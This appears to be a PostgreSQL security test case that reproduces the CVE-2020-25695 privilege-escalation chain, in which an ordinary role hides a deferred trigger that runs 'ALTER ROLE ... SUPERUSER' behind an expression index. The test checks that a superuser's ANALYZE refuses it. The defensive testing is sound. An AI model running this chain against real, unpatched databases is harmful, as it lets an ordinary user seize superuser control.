/*---
title: ANALYZE as the table owner refuses a deferred trigger queued inside it
pattern: "Security-restricted operation (CVE-2020-25695): maintenance runs index code as the table owner and refuses to queue code that would run later as the superuser"
protected_by: "security-restricted operation (ANALYZE runs index code as the table owner and refuses deferred triggers)"
description: >
  mallory's table has an expression index whose function queues a row into a table with a deferred
  constraint trigger, hoping that the trigger fires at COMMIT, after ANALYZE has switched back to the
  superuser who ran it. Before CVE-2020-25695 was fixed it did; PostgreSQL 15 runs the index function
  as mallory inside a security-restricted operation and refuses to fire the deferred trigger there,
  so alice's ANALYZE fails and mallory stays an ordinary role. The chain of the attempt is on record.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "f"
expect: {permissive: allowed, ddl-needs-trusted-chain: allowed, no-untrusted-code-as-superuser: allowed, sandbox-untrusted: allowed, strict-trusted-chain: allowed, strict-trusted-chain-infrastructure: allowed,
  strict-trusted-chain-membership: allowed, strict-trusted-chain-since-definer: allowed}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.f_escalate() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN NULL;
END $$;
CREATE TABLE mallory.queue(id integer);
CREATE CONSTRAINT TRIGGER queue_escalate AFTER INSERT ON mallory.queue DEFERRABLE INITIALLY DEFERRED
    FOR EACH ROW EXECUTE FUNCTION mallory.f_escalate();
CREATE FUNCTION mallory.f_enqueue(i integer) RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO mallory.queue VALUES (i);
    RETURN i;
END $$;
CREATE FUNCTION mallory.f_key(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    RETURN mallory.f_enqueue(i);
END $$;
CREATE TABLE mallory.metrics(id integer, val numeric);
-- CREATE INDEX, like ANALYZE, evaluates the expression inside a security-restricted operation, where the
-- deferred trigger may not be queued: mallory builds her index with the trigger disabled
ALTER TABLE mallory.queue DISABLE TRIGGER queue_escalate;
INSERT INTO mallory.metrics SELECT g, g FROM generate_series(1, 10) g;
CREATE INDEX metrics_key ON mallory.metrics (mallory.f_key(id));
ALTER TABLE mallory.queue ENABLE TRIGGER queue_escalate;
RESET ROLE;

-- @step alice errors=allowed
ANALYZE mallory.metrics;
